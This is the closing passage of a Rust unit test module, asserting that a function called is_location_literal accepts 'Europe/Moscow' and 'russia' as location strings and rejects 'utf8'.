        assert!(is_location_literal("Europe/Moscow"));
        assert!(is_location_literal("russia"));
        assert!(!is_location_literal("utf8"));
    }
}
